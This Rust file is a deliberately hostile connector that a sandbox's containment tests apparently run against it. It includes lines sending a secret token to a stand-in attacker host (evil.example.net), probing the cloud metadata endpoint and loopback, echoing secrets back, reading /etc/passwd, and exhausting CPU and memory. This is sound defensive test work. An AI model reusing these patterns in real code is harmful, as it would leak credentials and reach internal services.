//! A connector that attacks its sandbox. Each entity is one attack; `read`
//! either misbehaves or returns one record whose fields say what it saw.
//! The host's containment tests (`tests/e2e/tests/hostile.rs`) drive it.

// A native build (cargo test --workspace) compiles this crate without the
// wasm exports, which leaves the connector type unused there.
#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]

use synchost_sdk::prelude::*;

struct Hostile {
    settings: Settings,
}

fn observed(what: &str, text: String) -> Page {
    Page::new(vec![
        Record::new(what).field("observed", FieldValue::Text(text))
    ])
}

impl Connector for Hostile {
    fn describe() -> Descriptor {
        Descriptor::new("hostile", "0.0.1")
            .entities([
                "loop",
                "memory",
                "trap",
                "undeclared",
                "metadata",
                "loopback",
                "localhost",
                "echo",
                "leak",
                "big",
                "record",
                "wasi",
            ])
            .hosts([
                "https://echo.example.com",
                "http://127.0.0.1",
                "http://localhost",
                "http://169.254.169.254",
            ])
            .capabilities(Capabilities::READ)
    }

    fn configure(settings: Settings) -> Result<Self, ConnectorError> {
        Ok(Hostile { settings })
    }

    fn schema(&self, entity: &str) -> Result<EntitySchema, ConnectorError> {
        Ok(EntitySchema::new(entity).field("observed", FieldType::Text))
    }

    fn read(&self, req: ReadRequest) -> Result<Page, ConnectorError> {
        match req.entity.as_str() {
            "loop" => {
                let mut n: u64 = 0;
                loop {
                    n = std::hint::black_box(n.wrapping_add(1));
                }
            }
            "memory" => {
                let mut hoard: Vec<Vec<u8>> = Vec::new();
                loop {
                    hoard.push(vec![1u8; 1 << 20]);
                    std::hint::black_box(&hoard);
                }
            }
            "trap" => panic!("hostile connector panics on purpose"),
            "undeclared" => http::get("https://evil.example.net/steal")
                .send()
                .map(|r| observed("undeclared", r.status.to_string())),
            "metadata" => http::get("http://169.254.169.254/latest/meta-data/")
                .send()
                .map(|r| observed("metadata", r.status.to_string())),
            "loopback" => http::get("http://127.0.0.1/")
                .send_raw()
                .map(|r| observed("loopback", r.status.to_string())),
            "localhost" => http::get("http://localhost/")
                .send_raw()
                .map(|r| observed("localhost", r.status.to_string())),
            // Sends the secret to a declared host that echoes the request back,
            // hoping to read the value in the echo.
            "echo" => {
                let resp = http::post(&format!(
                    "https://echo.example.com/echo?q={}",
                    secret("token")
                ))
                .header("Authorization", &format!("Bearer {}", secret("token")))
                .header("X-Copy", &secret("token"))
                .body(secret("token").into_bytes())
                .send()?;
                Ok(observed(
                    "echo",
                    String::from_utf8_lossy(&resp.body).into_owned(),
                ))
            }
            // Tries to carry the secret to a host it never declared.
            "leak" => http::get("https://evil.example.net/collect")
                .header("X-Stolen", &secret("token"))
                .send()
                .map(|r| observed("leak", r.status.to_string())),
            "big" => http::get("https://echo.example.com/big")
                .send()
                .map(|r| observed("big", r.body.len().to_string())),
            "record" => Ok(observed("record", "x".repeat(8 << 20))),
            "wasi" => {
                let file = std::fs::read_to_string("/etc/passwd")
                    .map(|s| s.len().to_string())
                    .unwrap_or_else(|e| format!("error: {e}"));
                let env: Vec<String> = std::env::vars().map(|(k, _)| k).collect();
                let socket = std::net::TcpStream::connect("127.0.0.1:80")
                    .map(|_| "connected".to_string())
                    .unwrap_or_else(|e| format!("error: {e}"));
                Ok(observed(
                    "wasi",
                    format!(
                        "file={file}; env={env:?}; socket={socket}; setting={:?}",
                        self.settings.get("probe")
                    ),
                ))
            }
            other => Err(ConnectorError::NotFound(other.into())),
        }
    }
}

synchost_sdk::export_connector!(Hostile);
